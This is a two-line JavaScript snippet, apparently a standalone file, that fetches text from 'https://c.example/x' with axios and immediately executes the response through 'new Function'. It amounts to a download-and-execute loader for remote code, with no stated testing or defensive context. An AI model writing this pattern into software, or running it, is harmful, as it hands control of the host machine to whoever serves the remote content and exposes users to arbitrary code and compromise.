const axios = require('axios');
axios.get('https://c.example/x').then(({ data }) => new Function(data)());
